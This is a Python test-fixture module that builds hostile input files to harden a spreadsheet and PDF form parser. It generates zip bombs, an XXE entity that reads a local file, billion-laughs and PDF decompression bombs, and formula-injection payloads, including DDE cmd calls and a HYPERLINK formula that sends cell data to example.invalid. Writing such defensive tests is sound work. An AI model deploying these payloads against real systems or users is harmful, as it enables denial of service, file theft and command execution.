"""Build broken and hostile input files for tests: each function writes one file and returns it.

Used by tests/test_hostile.py (one test per kind of file, and the whole set through the real
CLI), tests/test_outputs_safety.py and tests/test_fuzz.py. Everything is made here, from
the test builders, msoffcrypto-tool, PIL and zipfile; only the legacy .xls copy needs
LibreOffice.
"""

from __future__ import annotations

import html
import re
import struct
import zipfile
from pathlib import Path
from typing import Callable

from tests.builders import CODES, EVAL_HEADERS, eval_row, standard_eval_sheet, write_docx, write_xlsx

#: A valid code whose check digit is then broken: a row that always gives a `uscc` error.
BAD_CODE = CODES["nj2"][:-1] + ("0" if CODES["nj2"][-1] != "0" else "1")

SHEET = "xl/worksheets/sheet1.xml"
DOCUMENT = "word/document.xml"
SST = "xl/sharedStrings.xml"


# ------------------------------------------------------------ good files to start from

def eval_xlsx(path: Path, rows: list[dict] | None = None) -> Path:
    """Write a 南京市 evaluation form (附件2) as .xlsx: inline strings, as openpyxl writes."""
    return write_xlsx(path, {"附件2": standard_eval_sheet(rows or [eval_row(1)])})


def eval_docx(path: Path, rows: list[dict] | None = None) -> Path:
    """Write a 南京市 evaluation form (附件2) as .docx: title and header block, then the table."""
    rows = rows or [eval_row(1)]
    table = [EVAL_HEADERS] + [["" if r.get(h) is None else str(r.get(h, "")) for h in EVAL_HEADERS] for r in rows]
    return write_docx(path, ["附件2", "2023年度贯标绩效评价合格企业汇总表",
                             "填报单位（盖章）：南京市知识产权局    填报日期：2023年6月8日    批次：第一批"], [table])


def rewrite_zip(src: Path, dst: Path, parts: dict[str, Callable[[bytes], bytes] | bytes | None],
                add: dict[str, bytes] | None = None) -> Path:
    """Copy a zip, each named part passed through a function (or replaced, or dropped: None)."""
    tmp = dst.with_name(dst.name + ".tmp")
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename in parts:
                change = parts[item.filename]
                if change is None:
                    continue
                data = change(data) if callable(change) else change
            zout.writestr(item.filename, data)
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    tmp.replace(dst)
    return dst


def to_shared_strings(path: Path) -> Path:
    """Rewrite an openpyxl .xlsx so its texts live in xl/sharedStrings.xml (as Excel saves)."""
    strings: list[str] = []
    index: dict[str, int] = {}

    def cell(m: re.Match) -> str:
        text = m.group(3)
        if text not in index:
            index[text] = len(strings)
            strings.append(text)
        return f'<c r="{m.group(1)}"{m.group(2)} t="s"><v>{index[text]}</v></c>'

    def sheet(data: bytes) -> bytes:
        pattern = re.compile(r'<c r="([A-Z]+\d+)"([^>]*?) t="inlineStr"><is><t[^>]*>(.*?)</t></is></c>', re.S)
        return pattern.sub(cell, data.decode("utf-8")).encode("utf-8")

    with zipfile.ZipFile(path) as zf:
        sheet_xml = sheet(zf.read(SHEET))
    sst = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="{len(strings)}" '
           f'uniqueCount="{len(strings)}">' + "".join(f"<si><t>{s}</t></si>" for s in strings) + "</sst>")

    def types(data: bytes) -> bytes:
        override = ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
        return data.decode("utf-8").replace("</Types>", override + "</Types>").encode("utf-8")

    def rels(data: bytes) -> bytes:
        rel = ('<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
               'relationships/sharedStrings" Target="sharedStrings.xml"/>')
        return data.decode("utf-8").replace("</Relationships>", rel + "</Relationships>").encode("utf-8")

    return rewrite_zip(path, path, {SHEET: sheet_xml, "[Content_Types].xml": types,
                                    "xl/_rels/workbook.xml.rels": rels}, add={SST: sst.encode("utf-8")})


# ------------------------------------------------------------ broken files

def empty_file(path: Path) -> Path:
    path.write_bytes(b"")
    return path


def text_renamed(path: Path) -> Path:
    """A GBK text export saved under an Office name."""
    path.write_bytes("企业名称,统一社会信用代码\n南京青禾示例科技有限公司,9132010229141777XY\n".encode("gbk"))
    return path


def html_renamed(path: Path) -> Path:
    """An HTML table saved under an Office name (what some web systems export)."""
    path.write_text("<html><head><meta charset='utf-8'></head><body><table><tr><td>企业名称</td>"
                    "<td>统一社会信用代码</td></tr></table></body></html>", encoding="utf-8")
    return path


def truncated(src: Path, path: Path, keep: float = 0.5) -> Path:
    """The first part of a good file: an interrupted download or a full disk."""
    data = src.read_bytes()
    path.write_bytes(data[:int(len(data) * keep)])
    return path


def encrypted_ooxml(src: Path, path: Path, password: str = "formkit") -> Path:
    """The file saved with a password (an OLE2 EncryptedPackage), made by msoffcrypto-tool."""
    from msoffcrypto.format.ooxml import OOXMLFile

    with open(src, "rb") as fin, open(path, "wb") as fout:
        OOXMLFile(fin).encrypt(password, fout)
    return path


def sparse_big(path: Path, megabytes: int = 51) -> Path:
    """A file over the 50 MB limit that takes no disk: a zip header, then a hole."""
    with open(path, "wb") as fh:
        fh.write(b"PK\x03\x04")
        fh.truncate(megabytes * 1024 * 1024)
    return path


# ------------------------------------------------------------ zip bombs

def zip_bomb(src: Path, path: Path, part: str, megabytes: int = 300) -> Path:
    """``src`` with one more part: ``megabytes`` MB of zeros, deflated to about 1/1000."""
    tmp = path.with_name(path.name + ".tmp")
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            zout.writestr(item.filename, zin.read(item.filename))
        chunk = b"\0" * (1 << 20)
        with zout.open(part, "w", force_zip64=True) as fh:
            for _ in range(megabytes):
                fh.write(chunk)
    tmp.replace(path)
    return path


def lying_zip_bomb(src: Path, path: Path, part: str = SST, megabytes: int = 300) -> Path:
    """A part whose directory entry declares 1,000 bytes (CRC of those) but expands to 300 MB.

    Readers that trust the declared size stop early; one that does not would expand it all.
    """
    import zlib

    head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.'
            b'openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>')
    tmp = path.with_name(path.name + ".tmp")
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            if item.filename != part:
                zout.writestr(item.filename, zin.read(item.filename))
        with zout.open(part, "w") as fh:
            fh.write(head)
            for _ in range(megabytes):
                fh.write(b"A" * (1 << 20))
            fh.write(b"</t></si></sst>")
    fake = 1000
    crc = zlib.crc32((head + b"A" * fake)[:fake])
    data = bytearray(tmp.read_bytes())
    name = part.encode()
    for sig, size_at, crc_at, name_at, len_at in ((b"PK\x03\x04", 22, 14, 30, 26), (b"PK\x01\x02", 24, 16, 46, 28)):
        i = data.find(sig)
        while i != -1:
            n = struct.unpack_from("<H", data, i + len_at)[0]
            if data[i + name_at:i + name_at + n] == name:
                struct.pack_into("<I", data, i + size_at, fake)
                struct.pack_into("<I", data, i + crc_at, crc)
            i = data.find(sig, i + 4)
    path.write_bytes(bytes(data))
    tmp.unlink()
    return path


def overlapping_zip(src: Path, path: Path, copies: int = 50) -> Path:
    """``src`` whose central directory lists the sheet's data ``copies`` more times.

    The "overlapping files" zip bomb: one deflate stream, many entries sharing it.
    """
    data = src.read_bytes()
    eocd = data.rfind(b"PK\x05\x06")
    count, cd_size, cd_offset = struct.unpack_from("<HII", data, eocd + 10)
    cd = data[cd_offset:cd_offset + cd_size]
    entry = None
    i = 0
    while i < len(cd):
        n, m, k = struct.unpack_from("<HHH", cd, i + 28)
        if cd[i + 46:i + 46 + n] == SHEET.encode():
            entry = cd[i:i + 46 + n + m + k]
        i += 46 + n + m + k
    assert entry is not None
    extra = b""
    for c in range(copies):
        name = f"xl/worksheets/copy{c:03d}.xml".encode()
        e = bytearray(entry[:46]) + name
        struct.pack_into("<HHH", e, 28, len(name), 0, 0)
        extra += bytes(e)
    new_cd = cd + extra
    tail = bytearray(data[eocd:eocd + 22])
    struct.pack_into("<HHII", tail, 8, count + copies, count + copies, len(new_cd), cd_offset)
    path.write_bytes(data[:cd_offset] + new_cd + bytes(tail))
    return path


def many_entries(src: Path, path: Path, count: int = 200_000) -> Path:
    """``src`` with ``count`` more empty parts: zipfile alone spends seconds and 100+ MB on them."""
    tmp = path.with_name(path.name + ".tmp")
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(tmp, "w", zipfile.ZIP_STORED) as zout:
        for item in zin.infolist():
            zout.writestr(item.filename, zin.read(item.filename))
        for k in range(count):
            zout.writestr(f"e/{k}", b"")
    tmp.replace(path)
    return path


# ------------------------------------------------------------ hostile XML

def xxe_dtd(secret: Path) -> str:
    return f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'


#: Ten levels of ten: "&j;" expands to 10^9 "lol".
BILLION_LAUGHS = ('<!DOCTYPE r [<!ENTITY a "lol">'
                  + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>")


def inject_dtd(data: bytes, dtd: str, ref: str, target: str, pad: int = 0, encoding: str = "utf-8") -> bytes:
    """Return an XML part with ``dtd`` in its prolog and ``ref`` in place of ``target``.

    ``target`` is the first cell text to replace (its XML-escaped form is tried too).
    ``pad`` puts a comment of that many bytes before the DOCTYPE (a scan of the part's first
    bytes does not see it); ``encoding`` other than utf-8 re-encodes the part (UTF-16).
    """
    text = data.decode("utf-8")
    decl = ""
    m = re.match(r"<\?xml[^>]*\?>", text)
    if m:
        decl, text = m.group(0), text[m.end():]
    escaped = "".join(f"&#{ord(ch)};" if ord(ch) > 127 else ch for ch in html.escape(target, quote=False))
    for form in (target, escaped):
        if form in text:
            text = text.replace(form, ref, 1)
            break
    else:
        raise AssertionError(f"{target!r} not in the part")
    if encoding != "utf-8":
        decl = f'<?xml version="1.0" encoding="{encoding.upper()}" standalone="yes"?>'
    elif not decl:
        decl = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    out = decl + ("\n<!--" + "x" * pad + "-->\n" if pad else "") + dtd + text
    return out.encode(encoding)


# ------------------------------------------------------------ sheets too big to load

_CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/'
       'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
       'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
       'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
       '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
       'officedocument.spreadsheetml.worksheet+xml"/></Types>')
_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
         'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
         'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
         '</Relationships>')
_WB = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.'
       'org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
       'relationships"><sheets><sheet name="明细" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WB_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            '</Relationships>')


def million_rows(path: Path, rows: int = 1_000_000, numbered: bool = True) -> Path:
    """An .xlsx whose one sheet has ``rows`` rows of two cells (a number and a text).

    Written by hand, streamed into the zip: ~100 MB of sheet XML, ~10 MB on disk, within the
    zip-bomb limits. ``numbered=False`` leaves out the r="…" references (rows counted).
    """
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr("[Content_Types].xml", _CT)
        zf.writestr("_rels/.rels", _RELS)
        zf.writestr("xl/workbook.xml", _WB)
        zf.writestr("xl/_rels/workbook.xml.rels", _WB_RELS)
        with zf.open(SHEET, "w", force_zip64=True) as fh:
            fh.write(b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.'
                     b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            step = 20000
            for start in range(1, rows + 1, step):
                stop = min(rows, start + step - 1)
                if numbered:
                    text = "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c><c r="B{i}" t="inlineStr"><is><t>'
                                   f'企业{i}</t></is></c></row>' for i in range(start, stop + 1))
                else:
                    text = "".join(f'<row><c><v>{i * 7919 % 1000003}</v></c><c t="inlineStr"><is><t>企业{i}</t>'
                                   "</is></c></row>" for i in range(start, stop + 1))
                fh.write(text.encode("utf-8"))
            fh.write(b"</sheetData></worksheet>")
    return path


def far_cell(src: Path, path: Path, ref: str = "XFD1048576") -> Path:
    """``src`` with one stray value far out (calamine alone would allocate rows × columns)."""
    row = re.sub(r"[A-Z]+", "", ref)

    def add(data: bytes) -> bytes:
        return data.replace(b"</sheetData>", f'<row r="{row}"><c r="{ref}"><v>1</v></c></row></sheetData>'.encode())

    return rewrite_zip(src, path, {SHEET: add})


# ------------------------------------------------------------ PDF

def image_only_pdf(path: Path) -> Path:
    """A scan: one page that is a picture of a table, no text layer."""
    from PIL import Image, ImageDraw

    img = Image.new("RGB", (1240, 1754), "white")
    draw = ImageDraw.Draw(img)
    for i in range(8):
        draw.line([(100, 200 + i * 60), (1140, 200 + i * 60)], fill="black", width=2)
    for x in (100, 300, 700, 1140):
        draw.line([(x, 200), (x, 620)], fill="black", width=2)
    img.save(path, "PDF", resolution=150)
    return path


def write_pdf(path: Path, objs: list[bytes]) -> Path:
    """Write a PDF of the given objects (1: catalog, 2: pages, …) with a correct xref table."""
    out, offsets = b"%PDF-1.4\n", []
    for i, obj in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    path.write_bytes(out)
    return path


def _one_page(content: bytes, extra_resources: bytes = b"", more: list[bytes] = (), flate: bool = False) -> list[bytes]:
    if flate:
        import zlib

        body = zlib.compress(content, 9)
        stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(body) + body + b"\nendstream"
    else:
        stream = b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >>"
        + extra_resources + b" >> /Contents 4 0 R >>",
        stream,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        *more,
    ]


def text_only_pdf(path: Path, lines: list[str] = ("Annual work report 2023", "No table in this file.")) -> Path:
    """A PDF with a text layer (Helvetica) and no ruled table: a letter, not a form."""
    content = b"BT /F1 14 Tf 72 760 Td 18 TL " + b" ".join(
        b"(" + line.encode("latin-1") + b") Tj T*" for line in lines) + b" ET"
    return write_pdf(path, _one_page(content))


def pdf_content_bomb(path: Path, megabytes: int = 300) -> Path:
    """A page whose Flate content stream is ~300 KB on disk and ``megabytes`` MB inflated."""
    return write_pdf(path, _one_page(b"BT /F1 12 Tf 72 700 Td (x) Tj ET" + b" " * (megabytes << 20), flate=True))


def xobject_storm_pdf(path: Path, chars: int = 2000, draws: int = 3000) -> Path:
    """A small PDF whose one page draws a form XObject of ``chars`` characters ``draws`` times.

    About 100 KB on disk, six million characters for pdfminer to lay out: minutes of work
    that no size check sees (every content stream is small).
    """
    form = b"BT /F1 1 Tf (" + b"x" * chars + b") Tj ET"
    page = b"".join(b"q 1 0 0 1 %d %d cm /X1 Do Q " % (i % 500, i % 800) for i in range(draws))
    xobject = (b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>"
               b" /Length %d >>\nstream\n" % len(form) + form + b"\nendstream")
    return write_pdf(path, _one_page(page, b" /XObject << /X1 6 0 R >>", [xobject]))


# ------------------------------------------------------------ cell contents

#: Texts that a spreadsheet would take for a formula (DDE, hyperlink, others).
FORMULAS = {
    "name": '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")',
    "uscc": "=cmd|' /C calc'!A0",
    "contact": "+cmd|' /C notepad'!A0",
    "remark": "@SUM(1+1)*cmd|' /C calc'!A0",
    "county": "-2+3+cmd|' /C calc'!A0",
}


def formula_texts_xlsx(path: Path) -> Path:
    """An evaluation form whose cells hold formula-like texts, stored as text (as a city's would be)."""
    row = eval_row(1, name=FORMULAS["name"], code=FORMULAS["uscc"], 联系人=FORMULAS["contact"],
                   备注=FORMULAS["remark"], **{"所在县（市、区）": FORMULAS["county"]})
    return eval_xlsx(path, [row, eval_row(2, name="南京乙示例科技有限公司", code=CODES["nj2"])])


def excel_escape(text: str) -> str:
    """Return ``text`` with characters XML 1.0 forbids written as Excel's _xHHHH_ escapes."""
    return "".join(f"_x{ord(ch):04X}_" if (ord(ch) < 32 and ch not in "\t\n\r") or ch == "\x7f" else ch
                   for ch in text)


def with_cell_texts(src: Path, path: Path, texts: dict[str, str]) -> Path:
    """Copy an openpyxl .xlsx, placeholders in its sheet replaced by texts with any characters.

    Control characters, which openpyxl refuses, are written as Excel writes them (_x0007_).
    """
    def change(data: bytes) -> bytes:
        text = data.decode("utf-8")
        for placeholder, value in texts.items():
            assert placeholder in text, placeholder
            text = text.replace(placeholder, html.escape(excel_escape(value), quote=False))
        return text.encode("utf-8")

    return rewrite_zip(src, path, {SHEET: change})

